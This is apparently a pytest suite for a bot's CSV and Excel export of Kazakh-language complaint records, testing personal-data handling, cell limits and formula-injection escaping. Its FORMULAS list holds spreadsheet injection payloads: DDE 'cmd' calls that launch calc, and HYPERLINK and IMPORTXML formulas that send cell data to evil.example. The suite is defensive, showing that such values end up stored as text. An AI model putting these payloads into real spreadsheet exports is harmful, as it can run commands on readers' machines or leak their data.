import csv as comma_separated
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import datetime, timedelta
from io import BytesIO, StringIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.languages import Language
from bot.numbers.rows import ExportRow
from bot.numbers.sheets import csv, risky, xlsx
from bot.numbers.words import Names
from tests.bot.numbers.conftest import ALMATY, MONDAY

ROW = ExportRow(
    number=7,
    filed_at=MONDAY.astimezone(ALMATY),
    kind="monitoring",
    principle=0,
    region=None,
    institution="school",
    identity="named",
    status="closed",
    outcome=None,
    first_answer_at=None,
    closed_at=None,
    rating=4,
    name="Әсем Қуанышқызы",
    words='Жүктемені бағдарлама бөлді.\nТүсіндірмеді; "солай" деді.',
)
FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "=cmd|'/c calc'!'A1'",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " \uff1d1+1",
    "\ufe661+1",
    "\u22121+1",
    "\tslipped into the next cell",
]
Write = Callable[..., bytes]
HARMLESS = ["", "Жүйе = бақылау", "a+b", "1-сынып", "— Рақмет", "«=»", "https://example.kz", "'=1", "007"]


def sheet_of(file: bytes) -> list[list[object]]:
    """The cells of a workbook, row by row."""
    return [list(row) for row in load_workbook(BytesIO(file)).active.iter_rows(values_only=True)]


def lines_of(file: bytes) -> list[list[str]]:
    """The cells of a CSV file, row by row."""
    return list(comma_separated.reader(StringIO(file.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_a_workbook_says_what_happened(names: Names, language: Language) -> None:
    """Captions for keys, clocks of Almaty for moments, numbers as numbers, the personal columns last."""
    heading, row = sheet_of(xlsx([ROW], names, language, personal=True))
    assert heading[0] == language.gettext("Number")
    assert heading[-1] == language.gettext("What happened")
    not_said = language.gettext("Not said")
    assert row[:6] == [7, datetime(2026, 11, 23, 14), "Жүйе мені бақылайды", not_said, not_said, "Мектеп"]  # noqa: DTZ001
    assert row[6:12] == ["Аты-жөнімен", "Жабылды", None, None, None, 4]
    assert row[12:] == [ROW.name, ROW.words]


def test_csv_says_the_same(names: Names, language: Language) -> None:
    """For Excel of Kazakhstan: a mark, semicolons, quotes; line breaks inside a cell stay inside."""
    file = csv([ROW], names, language, personal=True)
    assert file.startswith(b'\xef\xbb\xbf"')
    heading, row = lines_of(file)
    assert len(heading) == len(row) == 14
    assert row[:3] == ["7", "2026-11-23 14:00", "Жүйе мені бақылайды"]
    assert row[8:] == ["", "", "", "4", ROW.name, ROW.words]


@pytest.mark.parametrize("write", [xlsx, csv])
def test_personal_data_is_written_only_where_it_is_asked_for(names: Names, language: Language, write: Write) -> None:
    """A row that carries a name and words does not give them away by itself."""
    file = write([ROW], names, language, personal=False)
    cells = [str(cell) for row in (sheet_of(file) if write is xlsx else lines_of(file)) for cell in row]
    assert len(cells) == 24
    assert not [cell for cell in cells if "Әсем" in cell or "Жүктеме" in cell]


@pytest.mark.parametrize("words", FORMULAS)
def test_a_formula_stays_text(names: Names, language: Language, words: str) -> None:
    """In a story, in a name, and in a caption that an editor wrote."""
    names = replace(names, kinds={"monitoring": words})
    row = replace(ROW, name=words, words=words)
    for at in (2, 12, 13):
        cell = lines_of(csv([row], names, language, personal=True))[1][at]
        assert cell == "'" + words.replace("\x00", "\ufffd")
        in_book = load_workbook(BytesIO(xlsx([row], names, language, personal=True))).active.cell(2, at + 1)
        assert in_book.data_type == "s"
        assert in_book.quotePrefix
        assert not in_book.hyperlink


@pytest.mark.parametrize("words", HARMLESS)
def test_other_words_are_left_alone(names: Names, language: Language, words: str) -> None:
    """Nothing is put before what no spreadsheet would run; an address is no link, and a number's zeros stay."""
    row = replace(ROW, words=words)
    assert lines_of(csv([row], names, language, personal=True))[1][13] == words
    in_book = load_workbook(BytesIO(xlsx([row], names, language, personal=True))).active.cell(2, 14)
    assert (in_book.value or "") == words
    assert in_book.data_type in ({"s"} if words else {"s", "n"})
    assert not in_book.hyperlink


@given(before=st.text(" \t\r\n\u00a0\u2003\u200b\ufeff\x00\x1f"), sign=st.sampled_from("=+-@=+-@"), after=st.text())
def test_what_is_not_seen_hides_no_formula(before: str, sign: str, after: str) -> None:
    """Whatever spaces, marks and controls stand in front."""
    assert risky(before + sign + after)


def test_a_story_too_long_for_a_cell_ends_with_a_mark(names: Names, kazakh: Language) -> None:
    """Excel would call the file damaged; pairs of surrogates are not torn apart."""
    for story in ("қ" * 40_000, "😀" * 20_000):
        cell = str(sheet_of(xlsx([replace(ROW, words=story)], names, kazakh, personal=True))[1][13])
        assert len(cell.encode("utf-16-le")) // 2 in {32_766, 32_767}
        assert (cell[0], cell[-1]) == (story[0], "…")


def test_letters_that_no_file_may_hold_are_replaced(names: Names, kazakh: Language) -> None:
    """The workbook opens."""
    row = replace(ROW, words="a\x00b\x0bc\ud800d\uffffe_x0041_")
    assert sheet_of(xlsx([row], names, kazakh, personal=True))[1][13] == "a\ufffdb\ufffdc\ufffdd\ufffde_x0041_"
    assert lines_of(csv([row], names, kazakh, personal=True))[1][13] == "a\ufffdb\ufffdc\ufffdd\ufffde_x0041_"


def test_personal_data_never_reaches_the_disk(
    names: Names, kazakh: Language, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is written where there is no place for temporary files; those that facts pass through are gone afterwards."""
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "none"))
    assert xlsx([ROW], names, kazakh, personal=True)
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    assert xlsx([ROW], names, kazakh, personal=False)
    assert list(tmp_path.iterdir()) == []


def test_rows_are_taken_one_by_one(names: Names, kazakh: Language) -> None:
    """A thousand rows are never wanted at once; the workbook is whole, with its filter over all of them."""

    def rows() -> Iterator[ExportRow]:
        for number in range(1, 1001):
            yield replace(ROW, number=number, closed_at=ROW.filed_at + timedelta(hours=number))

    file = xlsx(rows(), names, kazakh, personal=False)
    assert [row[0] for row in sheet_of(file)[1:]] == list(range(1, 1001))
    assert 'ref="A1:L1001"' in ZipFile(BytesIO(file)).read("xl/worksheets/sheet1.xml").decode()


def test_no_rows_are_a_heading(names: Names, language: Language) -> None:
    """Both files open."""
    assert len(sheet_of(xlsx([], names, language, personal=False))) == 1
    assert len(lines_of(csv([], names, language, personal=False))) == 1
